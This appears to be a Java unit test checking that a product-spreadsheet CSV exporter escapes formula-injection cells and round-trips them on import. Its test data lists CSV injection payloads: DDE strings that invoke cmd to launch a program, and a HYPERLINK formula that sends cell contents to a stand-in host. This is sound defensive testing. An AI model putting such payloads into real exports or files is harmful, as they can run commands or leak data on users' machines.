package vn.ocop.product.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV exports cannot smuggle formulas into a spreadsheet program (OWASP "CSV injection"): a cell starting with
 * {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return gets the text mark {@code '}, and the
 * importer drops it again, so an exported file imports back to the same values.
 */
class CsvInjectionTests {

    private static final List<String> DANGEROUS = List.of(
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")",
            "+1+cmd|' /C calc'!A0",
            "-1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "+84 277 3851 234");

    @Test
    void cellsAProgramWouldRunAsFormulasGetTheTextMark() {
        for (String value : DANGEROUS) {
            assertThat(SheetWriter.Csv.safe(value)).as(value).isEqualTo("'" + value);
        }
        for (String value : List.of("Nước mắm Phú Quốc", "12", "0277 3851 234", "", "'quoted")) {
            assertThat(SheetWriter.Csv.safe(value)).as(value).isEqualTo(value);
        }
    }

    @Test
    void anExportedFileImportsBackToTheSameText(@TempDir Path dir) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter writer = SheetWriter.open(SpreadsheetFormat.CSV, out, "Sản phẩm")) {
            writer.header(List.of("Tên", "Điện thoại"), List.of(), List.of());
            for (String value : DANGEROUS) {
                writer.row(new ArrayList<>(List.of(value, "+84 90 123 4567")));
            }
        }
        String csv = out.toString(StandardCharsets.UTF_8);
        assertThat(csv).doesNotContain("\n+1+cmd").doesNotContain("\n-1+cmd").doesNotContain(",+84");
        Path file = dir.resolve("xuat.csv");
        Files.write(file, out.toByteArray());
        List<String> names = new ArrayList<>();
        List<String> phones = new ArrayList<>();
        SpreadsheetReader.read(file, SpreadsheetFormat.CSV, row -> {
            names.add(row.cell(0).text());
            phones.add(row.cell(1).text());
        });
        assertThat(names.subList(1, names.size())).containsExactlyElementsOf(DANGEROUS);
        assertThat(phones.subList(1, phones.size())).containsOnly("+84 90 123 4567");
    }
}
